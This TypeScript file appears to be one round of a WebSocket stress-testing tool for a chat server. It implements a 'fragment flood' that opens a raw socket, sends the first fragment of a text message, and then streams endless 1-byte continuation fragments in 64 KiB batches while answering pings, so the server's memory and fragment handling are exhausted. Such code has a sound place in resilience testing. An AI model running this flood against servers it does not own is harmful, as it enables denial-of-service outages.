import type { AttackRound } from './attack';
import { maskedFrame, Opcode } from '@rgchat/testkit';
import { finish, openRawWebSocket, stopSoon } from './raw-ws';

/** Continuation fragments per socket write: 64 KiB of 7-byte frames, so the tool spends nothing per fragment. */
const FRAGMENTS_PER_WRITE = 9362;

/** One masked 1-byte continuation fragment, written over and over (a fixed mask is still a valid frame). */
const ONE_BYTE_FRAGMENT = maskedFrame(Opcode.CONTINUATION, false, ' ');
let batch: Buffer | undefined;

/**
 * Attack 1, the fragment flood: a text frame's first fragment, then 1-byte
 * continuation fragments (FIN clear) as fast as the server reads them,
 * never finishing the message; pings are answered, so a heartbeat alone
 * never drops it. What it costs a server depends on how it keeps fragments
 * (one object per fragment?) and whether it counts them against maxPayload.
 */
export const fragmentFlood: AttackRound = async (ctx, stats) => {
  const ws = await openRawWebSocket(ctx.url, ctx.origin, ctx.timeoutMs);
  batch ??= Buffer.concat(Array.from({ length: FRAGMENTS_PER_WRITE }, () => ONE_BYTE_FRAGMENT));
  const first = maskedFrame(Opcode.TEXT, false, '[');
  ws.write(first);
  stats.framesSent++;
  stats.bytesSent += first.length;
  while (!ctx.stopped() && !ws.isEnded) {
    const more = ws.write(batch);
    stats.framesSent += FRAGMENTS_PER_WRITE;
    stats.bytesSent += batch.length;
    await (more ? new Promise((r) => setImmediate(r)) : Promise.race([ws.drained(), stopSoon(ctx.stopped)]));
  }
  return finish(ws, stats);
};
